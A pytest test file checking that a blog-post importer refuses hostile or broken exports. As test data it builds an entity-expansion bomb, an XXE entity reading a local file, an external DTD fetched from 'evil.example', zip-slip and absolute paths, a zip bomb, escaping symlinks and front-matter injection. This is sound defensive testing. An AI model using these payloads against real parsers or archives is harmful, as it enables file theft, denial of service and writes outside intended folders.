"""Sources that mean harm, or are broken, are refused with one sentence; none is unpacked, expanded or followed."""

import json
import os
import struct
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from bot.corpus import load
from bot.corpus.importers import CONVERTERS, ExportError, import_posts
from tests.helpers import ROOT

EXPORT = ROOT / "tests" / "data" / "exports" / "wordpress.xml"
HEAD = '<?xml version="1.0"?>'
RSS = '<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><item><title>{}</title></item></channel></rss>'


def refused(source: Path, folder: Path) -> str:
    """Return in which sentence a source is refused; nothing is written, and it does not take long."""
    start = time.process_time()
    with pytest.raises(ExportError) as caught:
        import_posts([source], folder, converters=CONVERTERS)
    assert time.process_time() - start < 20
    assert not folder.exists()
    assert "\n" not in str(caught.value)
    return str(caught.value)


def test_xml_that_declares_entities_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("Secret du disque.")
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(12))
    for declared, used in (
        (f"[{laughs}]", "&l11;"),
        (f'[<!ENTITY x SYSTEM "{secret.as_uri()}">]', "&x;"),
        ('[<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]', "x"),
        ('[<!ENTITY a "Un texte.">]', "&a;"),
    ):
        path = tmp_path / "export.xml"
        path.write_text(f"{HEAD}<!DOCTYPE rss {declared}>{RSS.format(used)}")
        assert "export.xml:1" in refused(path, tmp_path / "blog")


def test_xml_without_end_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "export.xml"
    for inside in ("<a>" * 100_000, "x" * 40_000_000):
        path.write_text(HEAD + RSS.format(inside))
        assert "export.xml:1" in refused(path, tmp_path / "blog")


def test_json_that_nests_absurdly_or_is_broken_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "ghost.json"
    for content in ('{"db": ' + "[" * 200_000, '{"db": [\n{"meta": }', '{"db": ' + "9" * 10_000 + "}"):
        path.write_text(content)
        assert "ghost.json" in refused(path, tmp_path / "blog")
    path.write_text('{"db": [{"data": {"posts": [3, null, {"id": []}, {"status": {}, "html": 7}], "tags": "x"}}]}')
    assert not import_posts([path], tmp_path / "blog", converters=CONVERTERS).stands


def test_page_that_nests_absurdly_is_left_out_and_one_that_nests_much_is_read(tmp_path: Path) -> None:
    pages = ["<div>" * 50_000 + "x", "<b>" * 900 + "profond" + "</b>" * 900]
    pages += ["<p>" * 2_000 + "plat", "<ul><li>" * 200 + "loin"]
    posts = [{"id": f"{n}", "slug": f"n{n}", "status": "published", "html": page} for n, page in enumerate(pages)]
    path = tmp_path / "ghost.json"
    path.write_text(json.dumps({"meta": {"exported_on": 1}, "data": {"posts": posts}}))
    report = import_posts([path], tmp_path / "blog", converters=CONVERTERS)
    assert sorted(report.new) == ["n1.md", "n2.md", "n3.md"]
    assert sum(map(len, report.left_out.values())) == 1
    bodies = [(tmp_path / "blog" / name).read_text() for name in sorted(report.new)]
    assert all(word in body for word, body in zip(("profond", "plat", "loin"), bodies, strict=True))


def test_text_without_end_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "export.txt"
    head = "TITLE: T\nSTATUS: Publish\nDATE: 01/01/2009 10:00:00\n-----\nBODY:\n"
    for body in ("x" * 40_000_000, f"{'x' * 1_000}\n" * 40_000):
        path.write_text(head + body)
        assert "export.txt" in refused(path, tmp_path / "blog")


def _outside(archive: zipfile.ZipFile) -> None:
    archive.writestr("../../outside.xml", EXPORT.read_text(encoding="utf-8"))


def _absolute(archive: zipfile.ZipFile) -> None:
    archive.writestr("/outside.xml", EXPORT.read_text(encoding="utf-8"))


def _drive(archive: zipfile.ZipFile) -> None:
    archive.writestr("C:\\outside.xml", EXPORT.read_text(encoding="utf-8"))


def _bomb(archive: zipfile.ZipFile) -> None:
    archive.writestr("export.xml", EXPORT.read_text(encoding="utf-8") + " " * 30_000_000, zipfile.ZIP_DEFLATED)


def _nothing(archive: zipfile.ZipFile) -> None:
    archive.writestr("photo.jpg", b"\xff\xd8")


@pytest.mark.parametrize("fill", [_outside, _absolute, _drive, _bomb, _nothing])
def test_zip_that_means_harm_is_refused(fill: Callable[[zipfile.ZipFile], None], tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "export.zip", "w") as archive:
        fill(archive)
    assert "export.zip" in refused(tmp_path / "export.zip", tmp_path / "blog")
    assert sorted(each.name for each in tmp_path.iterdir()) == ["export.zip"]


def test_zip_with_a_password_or_damaged_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "export.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.write(EXPORT, "export.xml")
    whole = path.read_bytes()
    at = whole.index(b"PK\x01\x02")
    locked = bytearray(whole)
    for place in (6, at + 8):  # the bit that says so, in both headers
        locked[place : place + 2] = struct.pack("<H", 1)
    for content in (bytes(locked), whole[:40] + b"\0" * 200 + whole[240:], whole[: at - 300] + whole[at:]):
        path.write_bytes(content)
        assert "export.zip" in refused(path, tmp_path / "blog")


def test_links_are_not_followed(tmp_path: Path) -> None:
    exports, other = tmp_path / "exports", tmp_path / "other"
    exports.mkdir()
    other.mkdir()
    (other / "secret.xml").write_text(EXPORT.read_text(encoding="utf-8"), encoding="utf-8")
    (exports / "link.xml").symlink_to(other / "secret.xml")
    (exports / "folder").symlink_to(other)
    with zipfile.ZipFile(exports / "links.txt", "w") as archive:
        entry = zipfile.ZipInfo("link.xml")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, str(other / "secret.xml"))
    assert str(exports) in refused(exports, tmp_path / "blog")
    # In the folder of the posts neither: the link goes, what it leads to stays.
    blog = tmp_path / "blog"
    import_posts([EXPORT], blog, converters=CONVERTERS)
    kept = (blog / "les-limaces.md").read_bytes()
    (other / "elsewhere.md").write_bytes(kept)
    (blog / "les-limaces.md").unlink()
    (blog / "les-limaces.md").symlink_to(other / "elsewhere.md")
    changed = tmp_path / "export.xml"
    changed.write_text(EXPORT.read_text(encoding="utf-8").replace("aucun</em>", "nul</em>"), encoding="utf-8")
    import_posts([changed], blog, converters=CONVERTERS)
    assert (other / "elsewhere.md").read_bytes() == kept


@pytest.mark.skipif(os.geteuid() == 0, reason="who may read all is refused nothing")
def test_source_and_folder_that_may_not_be_opened_are_named(tmp_path: Path) -> None:
    source = tmp_path / "export.xml"
    source.write_bytes(EXPORT.read_bytes())
    blog = tmp_path / "blog"
    blog.mkdir(mode=0o500)
    with pytest.raises(ExportError, match="blog"):
        import_posts([source], blog, converters=CONVERTERS)
    source.chmod(0)
    with pytest.raises(ExportError, match=r"export\.xml"):
        import_posts([source], blog, converters=CONVERTERS)


def test_text_that_looks_like_front_matter_says_nothing_to_the_bot(tmp_path: Path) -> None:
    posts = [
        {
            "id": 'a"\n---\ndraft: true',
            "slug": "un",
            "status": "published",
            "title": 'Un"\ndraft: true',
            "html": "<p>---</p><p>draft: true</p><p>---</p><p>Le texte.</p>",
        }
    ]
    path = tmp_path / "ghost.json"
    path.write_text(json.dumps({"meta": {"exported_on": 1}, "data": {"posts": posts}}))
    import_posts([path], tmp_path / "blog", converters=CONVERTERS)
    [post] = load(tmp_path / "blog").posts
    assert (post.title, post.body.endswith("Le texte.")) == ('Un" draft: true', True)
    assert len(import_posts([path], tmp_path / "blog", converters=CONVERTERS).same) == 1
